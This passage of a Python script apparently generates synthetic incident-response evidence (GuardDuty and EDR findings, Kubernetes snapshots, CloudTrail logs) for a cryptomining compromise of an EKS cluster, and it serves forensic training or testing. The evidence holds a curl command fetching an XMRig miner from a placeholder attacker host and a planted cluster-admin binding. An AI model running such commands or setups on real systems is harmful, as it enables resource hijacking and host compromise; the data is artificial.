        "connectionDirection": "OUTBOUND", "remoteIpDetails": remote_ip(POOL_IP, "Seychelles", "Victoria", "64502", "Example Offshore Hosting Ltd"),
        "remotePortDetails": {"port": POOL_PORT, "portName": "Unknown"}, "localPortDetails": {"port": 48212, "portName": "Unknown"},
        "protocol": "TCP", "blocked": False, "localIpDetails": {"ipAddressV4": EVIL_POD_IP}}}
    finding("e5a7c9b1d3f5a7c9e1b3d5f7a9c1e3b5", "CryptoCurrency:Runtime/BitcoinTool.B", 8,
            "A container is communicating with an IP address that is associated with cryptocurrency-related activity.",
            f"The container backup of pod {EVIL_POD} on EKS Cluster {CLUSTER} is communicating with IP address {POOL_IP} "
            "that is associated with cryptocurrency-related activity.",
            copy.deepcopy(rt_resource),
            service_block(T("08:52:44.603"), T("08:58:02.117"), 12, act, feature="RuntimeMonitoring",
                          extra={"runtimeDetails": {"process": process}}),
            T("08:58:40.775"), T("09:04:15.019"), step="detect-crypto-mining")


# PascalCase for `aws guardduty get-findings` output; keys whose CLI member name is not a plain capitalisation
PASCAL_EXCEPTIONS = {"sourceIPs": "SourceIps"}
EPOCH_PATHS = {("EksClusterDetails", "CreatedAt"), ("Process", "StartTime"), ("Lineage", "StartTime"),
               ("ModifyingProcess", "StartTime"), ("Context", "ModifiedAt")}


def to_cli(obj, parent=None):
    if isinstance(obj, list):
        return [to_cli(v, parent) for v in obj]
    if not isinstance(obj, dict):
        return obj
    out = {}
    for k, v in obj.items():
        pk = PASCAL_EXCEPTIONS.get(k, k[:1].upper() + k[1:])
        if (parent, pk) in EPOCH_PATHS and isinstance(v, float):
            dt = datetime.fromtimestamp(v, tz=timezone.utc)
            v = dt.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")
        out[pk] = to_cli(v, pk)
    return out


# ---------------------------------------------------------------------------------------------
# OCSF 1.1 Detection Finding from the EDR sensor on the node
# ---------------------------------------------------------------------------------------------
def ocsf_finding():
    seen = T("08:52:43.902")
    logged = T("08:52:51.337")
    sha = {"algorithm_id": 3, "algorithm": "SHA-256", "value": MINER_SHA256}
    container = {"uid": EVIL_CONTAINER_ID, "name": "backup", "runtime": "containerd", "orchestrator": "Kubernetes",
                 "pod_uuid": EVIL_POD_UID,
                 "image": {"uid": EVIL_IMAGE_DIGEST, "name": EVIL_IMAGE_REPO, "tag": "latest"}}
    miner = {"pid": MINER_PID, "name": "xmrig", "cmd_line": MINER_PATH + " " + MINER_ARGS, "uid": "5e7a9c1d-3f5b-4d7e-8a1c-2e4f6a8b0c2d",
             "created_time": epoch_ms(MINER_EXEC), "user": {"name": "root", "uid": "0", "type_id": 2, "type": "Admin"},
             "file": {"name": "xmrig", "path": MINER_PATH, "type_id": 1, "type": "Regular File", "size": 7861520,
                      "hashes": [sha], "created_time": epoch_ms(T("08:52:38.127"))},
             "parent_process": {"pid": SHELL_PID, "name": "sh", "cmd_line": "sh", "file": {"name": "busybox", "path": "/bin/busybox", "type_id": 1},
                                "container": container},
             "container": container}
    f = {
        "activity_id": 1, "activity_name": "Create", "category_name": "Findings", "category_uid": 2,
        "class_name": "Detection Finding", "class_uid": 2004, "type_uid": 200401, "type_name": "Detection Finding: Create",
        "time": epoch_ms(seen), "start_time": epoch_ms(MINER_EXEC), "end_time": epoch_ms(seen), "count": 1,
        "severity_id": 4, "severity": "High", "status_id": 1, "status": "New",
        "confidence_id": 3, "confidence": "High", "confidence_score": 94,
        "risk_level_id": 3, "risk_level": "High", "risk_score": 88,
        "message": f"Cryptocurrency miner executed in privileged container backup (pod {EVIL_NS}/{EVIL_POD}) on {EVIL_NODE.name}",
        "finding_info": {
            "uid": "det-20260314-0852-7f3c1a9e5b2d",
            "title": "Cryptocurrency miner (XMRig) executed in a privileged container with the host filesystem mounted",
            "desc": (f"The process {MINER_PATH} was written to disk by curl and executed 3 seconds later in container backup "
                     f"(image {EVIL_IMAGE}). Its command line uses the Stratum mining protocol and it connected to "
                     f"{POOL_IP}:{POOL_PORT}. The container is privileged, shares the host PID namespace and mounts the host "
                     "root filesystem at /host, so the host must be considered compromised."),
            "types": ["Cryptominer", "Malware"],
            "created_time": epoch_ms(seen), "first_seen_time": epoch_ms(MINER_EXEC), "last_seen_time": epoch_ms(seen),
            "analytic": {"uid": "LNX-CM-0427", "name": "XMRig-style miner with Stratum connection", "type_id": 1, "type": "Rule",
                         "category": "Cryptomining"},
            "attacks": [{"version": "v16", "tactic": {"uid": "TA0040", "name": "Impact"},
                         "technique": {"uid": "T1496", "name": "Resource Hijacking"}},
                        {"version": "v16", "tactic": {"uid": "TA0004", "name": "Privilege Escalation"},
                         "technique": {"uid": "T1611", "name": "Escape to Host"}}],
            "data_sources": ["Process", "Network Connection", "File"],
            "src_url": "https://console.edr.example.com/detections/det-20260314-0852-7f3c1a9e5b2d",
        },
        "device": {"type_id": 6, "type": "Virtual", "uid": "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a",
                   "hostname": EVIL_NODE.name, "name": EVIL_NODE.name, "ip": EVIL_NODE.ip, "instance_uid": EVIL_NODE.instance,
                   "region": REGION, "image": {"uid": NODE_AMI, "name": "amazon-eks-node-al2023-x86_64-standard-1.32-v20260301"},
                   "os": {"name": "Amazon Linux", "version": "2023", "type_id": 100, "type": "Linux",
                          "kernel_release": "6.1.128-136.201.amzn2023.x86_64"}},
        "cloud": {"provider": "AWS", "region": REGION, "zone": EVIL_NODE.zone,
                  "account": {"uid": ACCOUNT, "type_id": 10, "type": "AWS Account"}},
        "actor": {"process": miner},
        "evidences": [
            {"process": miner, "src_endpoint": {"ip": EVIL_POD_IP, "port": 48212},
             "dst_endpoint": {"ip": POOL_IP, "port": POOL_PORT},
             "connection_info": {"direction_id": 2, "direction": "Outbound", "protocol_num": 6, "protocol_name": "tcp"}},
            {"process": {"pid": 31790, "name": "curl", "cmd_line": f"curl -s http://{ATTACKER_IP}:8080/x -o .x/xmrig",
                         "container": container},
             "file": {"name": "xmrig", "path": MINER_PATH, "type_id": 1, "hashes": [sha]},
             "dst_endpoint": {"ip": ATTACKER_IP, "port": 8080}},
        ],
        "resources": [
            {"uid": EVIL_NODE.instance, "name": EVIL_NODE.name, "type": "AWS::EC2::Instance", "region": REGION,
             "cloud_partition": "aws", "labels": [f"eks:cluster-name={CLUSTER}", f"eks:nodegroup-name={NODEGROUP}"]},
            {"uid": EVIL_POD_UID, "name": f"{EVIL_NS}/{EVIL_POD}", "type": "Kubernetes Pod",
             "labels": [f"cluster={CLUSTER}", "app=backup-agent"]},
        ],
        "observables": [
            {"name": "evidences[].dst_endpoint.ip", "type_id": 2, "type": "IP Address", "value": POOL_IP},
            {"name": "evidences[].dst_endpoint.ip", "type_id": 2, "type": "IP Address", "value": ATTACKER_IP},
            {"name": "actor.process.file.hashes[].value", "type_id": 8, "type": "Hash", "value": MINER_SHA256},
            {"name": "device.hostname", "type_id": 1, "type": "Hostname", "value": EVIL_NODE.name},
        ],
        "remediation": {"desc": "Kill the process, isolate the host from the network and preserve its disk and memory for analysis."},
        "metadata": {"version": "1.1.0", "uid": "b4c3d2e1-f0a9-4b8c-9d7e-6f5a4b3c2d1e", "logged_time": epoch_ms(logged),
                     "log_name": "detections", "profiles": ["cloud", "container", "host"],
                     "product": {"name": "Cloud Workload Sensor", "vendor_name": "Example EDR Vendor", "version": "7.4.2",
                                 "uid": "cws", "feature": {"name": "Behavioral Detection"}}},
        "unmapped": {"sensor_id": "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a", "policy": "Linux Servers - Protect"},
    }
    return f


# ---------------------------------------------------------------------------------------------
# Snapshot (kubectl get ... -o json) taken by the responder at 09:40
# ---------------------------------------------------------------------------------------------
SNAP_T = T("09:40:00")


def k8s_list(items):
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}


def system_uuid(n):
    """EC2 instances report a system UUID that starts with ec2."""
    h = hashlib.md5(n.instance.encode()).hexdigest()
    return f"ec2{h[3:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


def snap_nodes():
    items = []
    for i, n in enumerate(NODES):
        created = datetime.strptime(n.launched, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc) + timedelta(seconds=44)
        cond = lambda typ, st, reason, msg: {"type": typ, "status": st, "lastHeartbeatTime": iso_s(SNAP_T - timedelta(seconds=7)),
                                             "lastTransitionTime": iso_s(created + timedelta(seconds=20)), "reason": reason, "message": msg}
        items.append({
            "apiVersion": "v1", "kind": "Node",
            "metadata": {
                "annotations": {"alpha.kubernetes.io/provided-node-ip": n.ip, "node.alpha.kubernetes.io/ttl": "0",
                                "volumes.kubernetes.io/controller-managed-attach-detach": "true"},
                "creationTimestamp": iso_s(created),
                "labels": {"beta.kubernetes.io/arch": "amd64", "beta.kubernetes.io/instance-type": "m6i.xlarge",
                           "beta.kubernetes.io/os": "linux", "eks.amazonaws.com/capacityType": "ON_DEMAND",
                           "eks.amazonaws.com/nodegroup": NODEGROUP, "eks.amazonaws.com/nodegroup-image": NODE_AMI,
                           "eks.amazonaws.com/sourceLaunchTemplateId": "lt-0d4c8e2a6f1b3c5d7",
                           "eks.amazonaws.com/sourceLaunchTemplateVersion": "3",
                           "failure-domain.beta.kubernetes.io/region": REGION, "failure-domain.beta.kubernetes.io/zone": n.zone,
                           "k8s.io/cloud-provider-aws": "5d9c7e3a1b8f6d4c2e0a9b7c5d3e1f8a",
                           "kubernetes.io/arch": "amd64", "kubernetes.io/hostname": n.name, "kubernetes.io/os": "linux",
                           "node.kubernetes.io/instance-type": "m6i.xlarge", "topology.k8s.aws/zone-id": "use1-az" + str(i + 1),
                           "topology.kubernetes.io/region": REGION, "topology.kubernetes.io/zone": n.zone},
                "name": n.name, "resourceVersion": str(184470000 + i), "uid": n.uid},
            "spec": {"providerID": f"aws:///{n.zone}/{n.instance}"},
            "status": {
                "addresses": [{"address": n.ip, "type": "InternalIP"}, {"address": n.name, "type": "InternalDNS"},
                              {"address": n.name, "type": "Hostname"}],
                "allocatable": {"cpu": "3920m", "ephemeral-storage": "95551679124", "hugepages-1Gi": "0", "hugepages-2Mi": "0",
                                "memory": "15136280Ki", "pods": "58"},
                "capacity": {"cpu": "4", "ephemeral-storage": "104845292Ki", "hugepages-1Gi": "0", "hugepages-2Mi": "0",
                             "memory": "16009240Ki", "pods": "58"},
                "conditions": [cond("MemoryPressure", "False", "KubeletHasSufficientMemory", "kubelet has sufficient memory available"),
                               cond("DiskPressure", "False", "KubeletHasNoDiskPressure", "kubelet has no disk pressure"),
                               cond("PIDPressure", "False", "KubeletHasSufficientPID", "kubelet has sufficient PID available"),
                               cond("Ready", "True", "KubeletReady", "kubelet is posting ready status")],
                "daemonEndpoints": {"kubeletEndpoint": {"Port": 10250}},
                "nodeInfo": {"architecture": "amd64", "bootID": stable_uuid(("boot" + n.name)),
                             "containerRuntimeVersion": "containerd://1.7.25", "kernelVersion": "6.1.128-136.201.amzn2023.x86_64",
                             "kubeProxyVersion": KUBELET_VERSION, "kubeletVersion": KUBELET_VERSION,
                             "machineID": hashlib.md5(("machine" + n.name).encode()).hexdigest(), "operatingSystem": "linux",
                             "osImage": "Amazon Linux 2023.6.20250303", "systemUUID": system_uuid(n)},
            }})
    return k8s_list(items)


def owner(kind, name):
    api = "apps/v1"
    return {"apiVersion": api, "kind": kind, "name": name, "uid": stable_uuid(f"{kind}/{name}"),
            "controller": True, "blockOwnerDeletion": True}


def snap_pods():
    items = []
    for p in SYS_PODS:
        c = {"name": p.owner_name.split("-")[0] if p.kind == "ReplicaSet" else p.owner_name, "image": p.image,
             "resources": {"requests": {"cpu": "25m"}}}
        if p.sa == "coredns":
            c.update({"name": "coredns", "args": ["-conf", "/etc/coredns/Corefile"],
                      "ports": [{"name": "dns", "containerPort": 53, "protocol": "UDP"}, {"name": "dns-tcp", "containerPort": 53, "protocol": "TCP"}],
                      "resources": {"limits": {"memory": "170Mi"}, "requests": {"cpu": "100m", "memory": "70Mi"}},
                      "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}, "readOnlyRootFilesystem": True}})
        elif p.sa == "aws-node":
            c.update({"name": "aws-node", "ports": [{"name": "metrics", "containerPort": 61678, "protocol": "TCP"}],
                      "securityContext": {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}},
                      "volumeMounts": [{"name": "cni-bin-dir", "mountPath": "/host/opt/cni/bin"}, {"name": "cni-net-dir", "mountPath": "/host/etc/cni/net.d"},
                                       {"name": "log-dir", "mountPath": "/host/var/log/aws-routed-eni"}, {"name": "run-dir", "mountPath": "/var/run/aws-node"},
                                       {"name": "xtables-lock", "mountPath": "/run/xtables.lock"}]})
        elif p.sa == "kube-proxy":
            c.update({"name": "kube-proxy", "command": ["kube-proxy", "--v=2", "--config=/var/lib/kube-proxy-config/config", "--hostname-override=$(NODE_NAME)"],
                      "securityContext": {"privileged": True},
                      "volumeMounts": [{"name": "varlog", "mountPath": "/var/log"}, {"name": "xtables-lock", "mountPath": "/run/xtables.lock"},
                                       {"name": "lib-modules", "mountPath": "/lib/modules", "readOnly": True},
                                       {"name": "kubeconfig", "mountPath": "/var/lib/kube-proxy/"}, {"name": "config", "mountPath": "/var/lib/kube-proxy-config/"}]})
        elif p.sa == "metrics-server":
            c.update({"name": "metrics-server", "args": ["--cert-dir=/tmp", "--secure-port=10250", "--kubelet-preferred-address-types=InternalIP,ExternalIP,Hostname", "--kubelet-use-node-status-port", "--metric-resolution=15s"],
                      "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True, "runAsUser": 1000, "capabilities": {"drop": ["ALL"]}}})
        else:
            c.update({"name": "cert-manager-controller", "args": ["--v=2", "--cluster-resource-namespace=$(POD_NAMESPACE)", "--leader-election-namespace=kube-system"],
                      "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": True}})
        c["containerID"] = hashlib.sha256(f"{p.ns}/{p.name}/{c['name']}".encode()).hexdigest()
        vols = []
        if p.sa == "aws-node":
            vols = [{"name": v, "hostPath": {"path": hp, "type": t}} for v, hp, t in
                    (("cni-bin-dir", "/opt/cni/bin", ""), ("cni-net-dir", "/etc/cni/net.d", ""), ("log-dir", "/var/log/aws-routed-eni", "DirectoryOrCreate"),
                     ("run-dir", "/var/run/aws-node", "DirectoryOrCreate"), ("xtables-lock", "/run/xtables.lock", "FileOrCreate"))]
        elif p.sa == "kube-proxy":
            vols = [{"name": "varlog", "hostPath": {"path": "/var/log", "type": ""}},
                    {"name": "xtables-lock", "hostPath": {"path": "/run/xtables.lock", "type": "FileOrCreate"}},
                    {"name": "lib-modules", "hostPath": {"path": "/lib/modules", "type": ""}},
                    {"name": "kubeconfig", "configMap": {"name": "kube-proxy", "defaultMode": 420}},
                    {"name": "config", "configMap": {"name": "kube-proxy-config", "defaultMode": 420}}]
        labels = {"k8s-app": p.sa} if p.sa != "cert-manager" else {"app.kubernetes.io/name": "cert-manager", "app.kubernetes.io/component": "controller"}
        if p.kind == "ReplicaSet":
            labels["pod-template-hash"] = p.owner_name.rsplit("-", 1)[1]
        else:
            labels["controller-revision-hash"] = "6c9d8b7f5"
        pod = make_pod(p.name, p.ns, p.uid, p.created, [c], labels=labels, owner=owner(p.kind, p.owner_name), sa=p.sa,
                       node=p.node, ip=p.ip, host_network=p.extra.get("hostNetwork", False), volumes=vols,
                       priority_class="system-node-critical" if p.kind == "DaemonSet" else ("system-cluster-critical" if p.ns == "kube-system" else None),
                       tolerations=[{"operator": "Exists"}] if p.kind == "DaemonSet" else None,
                       generate_name=p.owner_name + "-")
        items.append(pod)
    items.append(evil_pod("Running"))
    for (name, p_uid, node, ip, created) in PAY_PODS["0748"]:
        items.append(pay_pod(PAY_RS["0748"], PAY_IMAGES["0748"], name, p_uid, created, node, ip))
    items.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    return k8s_list(items)


def crb(name, role, subjects, created, labels=None, annotations=None, managed=None):
    md = {}
    if annotations:
        md["annotations"] = annotations
    md["creationTimestamp"] = created
    if labels:
        md["labels"] = labels
    if managed:
        md["managedFields"] = managed
    md["name"] = name
    md["resourceVersion"] = str(int(hashlib.md5(name.encode()).hexdigest()[:6], 16) % 9000000 + 1000)
    md["uid"] = stable_uuid(("crb/" + name))
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": md,
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}, "subjects": subjects}


def snap_crbs():
    boot = {"kubernetes.io/bootstrapping": "rbac-defaults"}
    auto = {"rbac.authorization.kubernetes.io/autoupdate": "true"}
    C0 = "2025-06-02T10:22:51Z"
    G = lambda n: {"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": n}
    U = lambda n: {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": n}
    S = lambda n, ns: {"kind": "ServiceAccount", "name": n, "namespace": ns}
    items = [
        crb("aws-node", "aws-node", [S("aws-node", "kube-system")], "2025-06-02T10:24:03Z",
            labels={"app.kubernetes.io/instance": "aws-vpc-cni", "app.kubernetes.io/name": "aws-node", "k8s-app": "aws-node"}),
        crb(BACKUP_CRB, "cluster-admin", [S(BACKUP_SA, "default")], "2026-03-14T08:47:20Z",
            managed=[{"apiVersion": "rbac.authorization.k8s.io/v1", "fieldsType": "FieldsV1", "fieldsV1": {"f:roleRef": {}, "f:subjects": {}},
                      "manager": "kubectl-create", "operation": "Update", "time": "2026-03-14T08:47:20Z"}]),
        crb("ci-deployers-admin", "cluster-admin", [G("ci:deployers")], "2025-07-21T14:03:19Z",
            annotations={"kubectl.kubernetes.io/last-applied-configuration": '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"annotations":{},"name":"ci-deployers-admin"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"ci:deployers"}]}\n'}),
        crb("cluster-admin", "cluster-admin", [G("system:masters")], C0, labels=boot, annotations=auto),
        crb("eks:addon-cluster-admin", "cluster-admin", [U("eks:addon-manager")], C0),
        crb("eks:certificate-controller", "eks:certificate-controller", [U("eks:certificate-controller")], C0, labels={"eks.amazonaws.com/component": "pod"}),
        crb("eks:cloud-controller-manager", "eks:cloud-controller-manager", [U("eks:cloud-controller-manager")], C0),
        crb("eks:k8s-metrics", "eks:k8s-metrics", [U("eks:k8s-metrics")], C0),
        crb("eks:node-manager", "eks:node-manager", [U("eks:node-manager")], C0),
        crb("metrics-server:system:auth-delegator", "system:auth-delegator", [S("metrics-server", "kube-system")], "2025-06-02T10:31:40Z",
            labels={"k8s-app": "metrics-server"}),
        crb("system:basic-user", "system:basic-user", [G("system:authenticated")], C0, labels=boot, annotations=auto),
        crb("system:controller:deployment-controller", "system:controller:deployment-controller", [S("deployment-controller", "kube-system")], C0, labels=boot, annotations=auto),
        crb("system:controller:endpointslice-controller", "system:controller:endpointslice-controller", [S("endpointslice-controller", "kube-system")], C0, labels=boot, annotations=auto),
        crb("system:controller:replicaset-controller", "system:controller:replicaset-controller", [S("replicaset-controller", "kube-system")], C0, labels=boot, annotations=auto),
        crb("system:coredns", "system:coredns", [S("coredns", "kube-system")], C0, labels={"eks.amazonaws.com/component": "coredns", "k8s-app": "kube-dns"}),
        crb("system:discovery", "system:discovery", [G("system:authenticated")], C0, labels=boot, annotations=auto),
        crb("system:kube-controller-manager", "system:kube-controller-manager", [U("system:kube-controller-manager")], C0, labels=boot, annotations=auto),
        crb("system:kube-scheduler", "system:kube-scheduler", [U("system:kube-scheduler")], C0, labels=boot, annotations=auto),
        crb("system:node-proxier", "system:node-proxier", [S("kube-proxy", "kube-system")], C0, labels={"eks.amazonaws.com/component": "kube-proxy"}),
        crb("system:public-info-viewer", "system:public-info-viewer", [G("system:authenticated"), G("system:unauthenticated")], C0, labels=boot, annotations=auto),
    ]
    return k8s_list(items)


def cm(name, ns, data, created, rv, annotations=None, labels=None):
    md = {}
    if annotations:
        md["annotations"] = annotations
    md["creationTimestamp"] = created
    if labels:
        md["labels"] = labels
    md.update({"name": name, "namespace": ns, "resourceVersion": rv,
               "uid": stable_uuid(f"cm/{ns}/{name}")})
    return {"apiVersion": "v1", "data": data, "kind": "ConfigMap", "metadata": md}


def fake_pem():
    body = base64.b64encode(hashlib.sha512(b"prod-payments-ca").digest() * 9).decode()
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(lines) + "\n-----END CERTIFICATE-----\n"


def snap_configmaps():
    corefile = (".:53 {\n    errors\n    health {\n        lameduck 5s\n      }\n    ready\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n"
                "      pods insecure\n      fallthrough in-addr.arpa ip6.arpa\n    }\n    prometheus :9153\n    forward . /etc/resolv.conf\n"
                "    cache 30\n    loop\n    reload\n    loadbalance\n}\n")
    items = [
        cm("amazon-vpc-cni", "kube-system", {"enable-network-policy-controller": "false", "enable-windows-ipam": "false",
                                              "enable-windows-prefix-delegation": "false", "minimum-ip-target": "3", "warm-ip-target": "1",
                                              "warm-prefix-target": "0"}, "2025-06-02T10:24:03Z", "1211",
           labels={"app.kubernetes.io/instance": "aws-vpc-cni", "app.kubernetes.io/name": "aws-node"}),
        cm("aws-auth", "kube-system", {"mapRoles": f"- groups:\n  - system:bootstrappers\n  - system:nodes\n  rolearn: {NODE_ROLE_ARN}\n  username: system:node:{{{{EC2PrivateDNSName}}}}\n"},
           "2025-06-02T10:33:12Z", "2217"),
        cm("coredns", "kube-system", {"Corefile": corefile}, "2025-06-02T10:22:55Z", "287",
           labels={"eks.amazonaws.com/component": "coredns", "k8s-app": "kube-dns"}),
        cm("kube-proxy", "kube-system", {"kubeconfig": "kind: Config\napiVersion: v1\nclusters:\n- cluster:\n    certificate-authority: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt\n"
                                         f"    server: {ENDPOINT.lower()}\n  name: default\ncontexts:\n- context:\n    cluster: default\n    namespace: default\n    user: default\n"
                                         "  name: default\ncurrent-context: default\nusers:\n- name: default\n  user:\n    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n"},
           "2025-06-02T10:22:56Z", "291", labels={"eks.amazonaws.com/component": "kube-proxy", "k8s-app": "kube-proxy"}),
        cm("kube-root-ca.crt", "kube-system", {"ca.crt": fake_pem()}, "2025-06-02T10:22:50Z", "253",
           annotations={"kubernetes.io/description": "Contains a CA bundle that can be used to verify the kube-apiserver when using internal endpoints such as the internal service IP or kubernetes.default.svc. No other usage is guaranteed across distributions of Kubernetes clusters."}),
    ]
    return k8s_list(items)


def snap_rolebindings():
    def rb(name, ns, role_kind, role, subjects, created):
        return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                "metadata": {"creationTimestamp": created, "name": name, "namespace": ns,
                             "resourceVersion": str(int(hashlib.md5(name.encode()).hexdigest()[:6], 16) % 9000000 + 1000),
                             "uid": stable_uuid(("rb/" + ns + "/" + name))},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role}, "subjects": subjects}
    return k8s_list([
        rb("cert-manager:leaderelection", "kube-system", "Role", "cert-manager:leaderelection",
           [{"kind": "ServiceAccount", "name": "cert-manager", "namespace": "cert-manager"}], "2025-06-02T10:41:07Z"),
        rb("payments-api-config-reader", "payments", "Role", "payments-config-reader",
           [{"kind": "ServiceAccount", "name": "payments-api", "namespace": "payments"}], "2025-06-03T08:22:40Z"),
        rb("payments-deployers", "payments", "ClusterRole", "edit",
           [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "payments:deployers"}], "2025-06-03T08:20:12Z"),
    ])


def snap_serviceaccounts():
    def sa(name, ns, created, annotations=None):
        md = {}
        if annotations:
            md["annotations"] = annotations
        md.update({"creationTimestamp": created, "name": name, "namespace": ns,
                   "resourceVersion": str(int(hashlib.md5((ns + name).encode()).hexdigest()[:6], 16) % 9000000 + 1000),
                   "uid": stable_uuid(f'{ns}/{name}')})
        return {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": md}
    items = [sa("cert-manager", "cert-manager", "2025-06-02T10:41:05Z"),
             sa("default", "cert-manager", "2025-06-02T10:41:01Z"),
             sa(BACKUP_SA, "default", "2026-03-14T08:47:02Z"),
             sa("default", "default", "2025-06-02T10:22:51Z"),
             sa("aws-node", "kube-system", "2025-06-02T10:24:03Z"),
             sa("coredns", "kube-system", "2025-06-02T10:22:55Z"),
             sa("default", "kube-system", "2025-06-02T10:22:51Z"),
             sa("kube-proxy", "kube-system", "2025-06-02T10:22:56Z"),
             sa("metrics-server", "kube-system", "2025-06-02T10:31:40Z"),
             sa("default", "payments", "2025-06-03T08:20:01Z"),
             sa("payments-api", "payments", "2025-06-03T08:20:05Z",
                annotations={"eks.amazonaws.com/role-arn": f"arn:aws:iam::{ACCOUNT}:role/payments-api-irsa"})]
    # the backup-sa object in the snapshot carries the uid seen in the audit log
    items[2]["metadata"]["uid"] = "2c9e8b7a-6d5f-4e3c-8b1a-0f9e8d7c6b5a"
    items[2]["metadata"]["resourceVersion"] = "184466102"
    return k8s_list(items)


def snap_describe_cluster():
    return {"cluster": {
        "name": CLUSTER, "arn": CLUSTER_ARN, "createdAt": "2025-06-02T10:14:37.412000+00:00", "version": K8S_VERSION,
        "endpoint": ENDPOINT, "roleArn": f"arn:aws:iam::{ACCOUNT}:role/prod-payments-cluster-role",
        "resourcesVpcConfig": {"subnetIds": list(SUBNETS.values()), "securityGroupIds": [], "clusterSecurityGroupId": CLUSTER_SG,
                               "vpcId": VPC_ID, "endpointPublicAccess": True, "endpointPrivateAccess": True,
                               "publicAccessCidrs": ["0.0.0.0/0"]},
        "kubernetesNetworkConfig": {"serviceIpv4Cidr": "172.20.0.0/16", "ipFamily": "ipv4", "elasticLoadBalancing": {"enabled": False}},
        "logging": {"clusterLogging": [{"types": ["api", "audit", "authenticator", "controllerManager", "scheduler"], "enabled": False}]},
        "identity": {"oidc": {"issuer": f"https://oidc.eks.{REGION}.amazonaws.com/id/7F3A9C2E1B0D4E5F6A7B8C9D0E1F2A3B"}},
        "status": "ACTIVE",
        "certificateAuthority": {"data": base64.b64encode(fake_pem().encode()).decode()},
        "platformVersion": "eks.6",
        "tags": {"team": "payments", "env": "production"},
        "encryptionConfig": [{"resources": ["secrets"], "provider": {"keyArn": f"arn:aws:kms:{REGION}:{ACCOUNT}:key/3b5d7f9a-1c3e-4a5b-8d7f-9e1a3c5b7d9f"}}],
        "health": {"issues": []},
        "accessConfig": {"authenticationMode": "API_AND_CONFIG_MAP"},
        "upgradePolicy": {"supportType": "STANDARD"},
    }}


def snap_access_entries():
    return {"accessEntries": sorted([EVIL_ROLE_ARN, GHA_ROLE_ARN, f"arn:aws:iam::{ACCOUNT}:role/platform-admin",
                                     NODE_ROLE_ARN, CI_USER_ARN])}


# ---------------------------------------------------------------------------------------------
# Writing the files
# ---------------------------------------------------------------------------------------------
def write(path, text_or_bytes):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "wb" if isinstance(text_or_bytes, bytes) else "w"
    with open(path, mode, **({} if mode == "wb" else {"encoding": "utf-8", "newline": "\n"})) as f:
        f.write(text_or_bytes)


def gz(data):
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0, compresslevel=6) as g:
        g.write(data)
    return buf.getvalue()


def floor5(t):
    return t.replace(minute=t.minute - t.minute % 5, second=0, microsecond=0)


def parse_ct_time(r):
    return datetime.strptime(r["eventTime"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc)


def write_cloudtrail(base):
    """S3 delivery objects: one per 5-minute window with records, named by delivery time (window end + 5 min)."""
    buckets = {}
    for rec, _, _ in CT:
        buckets.setdefault(floor5(parse_ct_time(rec)) + timedelta(minutes=10), []).append(rec)
    names = []
    for delivered in sorted(buckets):
        recs = sorted(buckets[delivered], key=lambda r: (r["eventTime"], r["eventID"]))
        random.Random(delivered.isoformat()).shuffle(recs)   # records in a log file are not ordered
        stamp = delivered.strftime("%Y%m%dT%H%MZ")
        unique = "a1b2c3d4e5f6a7b8" if stamp == "20260314T0915Z" else hashlib.sha256(stamp.encode()).hexdigest()[:16]
        name = f"{ACCOUNT}_CloudTrail_{REGION}_{stamp}_{unique}.json.gz"
        body = '{"Records":[' + ",".join(dumps_compact(r) for r in recs) + "]}"
        write(os.path.join(base, "cloudtrail", name), gz(body.encode()))
        names.append((name, len(recs)))
    return names


def lookup_resources(r):
    n, p = r["eventName"], r.get("requestParameters") or {}
    if r["eventSource"] == "eks.amazonaws.com":
        return [{"ResourceType": "AWS::EKS::Cluster", "ResourceName": p.get("name", CLUSTER)}] if p else []
    if n == "CreateRole":
        return [{"ResourceType": "AWS::IAM::Role", "ResourceName": p["roleName"]}]
    if n == "CreateAccessKey":
        return [{"ResourceType": "AWS::IAM::AccessKey", "ResourceName": r["responseElements"]["accessKey"]["accessKeyId"]},
                {"ResourceType": "AWS::IAM::User", "ResourceName": p["userName"]}]
    if n == "AuthorizeSecurityGroupIngress":
        return [{"ResourceType": "AWS::EC2::SecurityGroup", "ResourceName": p["groupId"]}]
    return []


def write_lookup_events(base):
    """aws cloudtrail lookup-events --lookup-attributes AttributeKey=Username,AttributeValue=ci-deployer
         --start-time 2026-03-14T00:00:00Z --end-time 2026-03-14T23:59:59Z"""
    recs = [r for r, _, _ in CT if r["userIdentity"].get("userName") == CI_USER]
